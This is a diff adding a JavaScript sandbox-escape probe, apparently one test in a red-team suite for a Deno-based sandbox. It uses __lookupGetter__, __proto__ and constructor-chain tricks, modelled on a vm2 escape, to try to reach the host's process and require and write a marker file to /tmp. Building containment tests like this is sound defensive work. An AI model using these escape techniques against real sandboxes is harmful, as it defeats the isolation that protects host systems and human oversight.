@@ -1,0 +1,99 @@
+// @attack: __lookupGetter__ / __lookupSetter__ / __proto__ tricks (vm2 "Buffer.prototype.
+// @attack: __lookupGetter__('__proto__')"): read the real prototype of every object the sandbox
+// @attack: gives us, bypassing any membrane, and climb each prototype's constructor.
+// @expect: contained
+// @tier: trusted
+// ---- probe helpers, inlined so the script stands alone. The marker is built at run time
+// so that no error message quoting this source can contain it by accident.
+const MARK = ['ESC', 'APED'].join('');
+const NAME = '11';
+let escapedOnce = false;
+/** A host (Node) process object, or something that leads to one; null otherwise. */
+function hostProcess(v, depth = 0) {
+  try {
+    if (v === null || v === undefined || depth > 2) return null;
+    if (typeof v !== 'object' && typeof v !== 'function') return null;
+    if (typeof v.pid === 'number' && (typeof v.getBuiltinModule === 'function' || typeof v.binding === 'function' || typeof v.dlopen === 'function')) return v;
+    if (typeof v.require === 'function' && typeof v.require.resolve === 'function') return v;
+    if (v.mainModule && typeof v.mainModule.require === 'function') return v;
+    if (v.process && v.process !== v) return hostProcess(v.process, depth + 1);
+  } catch {}
+  return null;
+}
+/** Prints the marker and tries to leave a file behind with the host's own fs. */
+function escaped(how, ref) {
+  escapedOnce = true;
+  console.log(MARK + ' via ' + how);
+  try {
+    const p = hostProcess(ref) ?? ref;
+    const req = typeof p.getBuiltinModule === 'function' ? (m) => p.getBuiltinModule(m) : (p.require ?? p.mainModule.require);
+    req('fs').writeFileSync('/tmp/rtc-escaped-' + NAME, how + '\n');
+  } catch {}
+}
+function check(v, how) {
+  const p = hostProcess(v);
+  if (p) escaped(how, p);
+  return p !== null;
+}
+const PROBE_SOURCE = 'try { return typeof process !== "undefined" ? process : (typeof require === "function" ? { require } : null) } catch (e) { return null }';
+/** Treats F as a Function constructor (of any kind) and asks it for process/require. */
+function probeCtor(F, how) {
+  if (typeof F !== 'function') return;
+  let got;
+  try { got = F(PROBE_SOURCE)(); } catch { return; }
+  try {
+    if (got && typeof got.next === 'function') got = got.next();
+    if (got && typeof got.then === 'function') { got.then((g) => check(g && 'value' in Object(g) && 'done' in Object(g) ? g.value : g, how), () => {}); return; }
+    if (got && typeof got === 'object' && 'done' in got && 'value' in got) got = got.value;
+  } catch {}
+  check(got, how);
+}
+/** Every constructor reachable from v by .constructor and the prototype chain, probed. */
+function probeChain(v, how) {
+  const seen = new Set();
+  let cur = v;
+  for (let i = 0; i < 8 && cur !== null && cur !== undefined; i++) {
+    if (check(cur, how)) return;
+    let ctor;
+    try { ctor = cur.constructor; } catch { ctor = undefined; }
+    if (typeof ctor === 'function' && !seen.has(ctor)) {
+      seen.add(ctor);
+      probeCtor(ctor, how + '.constructor');
+      let cc;
+      try { cc = ctor.constructor; } catch { cc = undefined; }
+      if (typeof cc === 'function' && !seen.has(cc)) { seen.add(cc); probeCtor(cc, how + '.constructor.constructor'); }
+    }
+    try { cur = Object.getPrototypeOf(cur); } catch { cur = null; }
+  }
+}
+function done() {
+  // a tick for probes that answer through promises
+  return new Promise((resolve) => setTimeout(resolve, 20)).then(() => { if (!escapedOnce) console.log('CONTAINED'); });
+}
+// ---- end of probe helpers
+const getProto = ({}).__lookupGetter__('__proto__');
+const setProto = ({}).__lookupSetter__('__proto__');
+const targets = [globalThis, globalThis.Deno, console, console.log, setTimeout, fetch, URL, TextEncoder, TextDecoder, crypto, structuredClone, queueMicrotask, Deno?.errors, Deno?.env, Deno?.permissions, Deno?.Command, Deno?.errors?.NotCapable, Deno?.readTextFile];
+for (const t of targets) {
+  if (t === undefined || t === null) continue;
+  let cur = t;
+  for (let i = 0; i < 6 && cur; i++) {
+    try { cur = getProto.call(cur); } catch { break; }
+    probeChain(cur, '__proto__ getter');
+    for (const key of ['constructor', 'caller', 'arguments']) {
+      try { const g = ({}).__lookupGetter__.call(cur, key); if (g) probeChain(g.call(t), 'lookupGetter ' + key); } catch {}
+    }
+  }
+  for (const key of Reflect.ownKeys(t)) {
+    try {
+      const g = ({}).__lookupGetter__.call(t, key);
+      if (g) { probeChain(g, 'getter fn ' + String(key)); probeChain(g.call(t), 'getter value ' + String(key)); }
+      const s = ({}).__lookupSetter__.call(t, key);
+      if (s) probeChain(s, 'setter fn ' + String(key));
+    } catch {}
+  }
+}
+// swap the prototype of a sandbox-provided object and see whether the shim leaks anything
+try { const o = {}; setProto.call(o, null); console.log(Object.keys(o).length); } catch {}
+try { for (const fn of [console.log, Deno.readTextFile]) { probeChain(fn.caller, 'caller'); probeChain(fn.arguments, 'arguments'); } } catch {}
+await done();
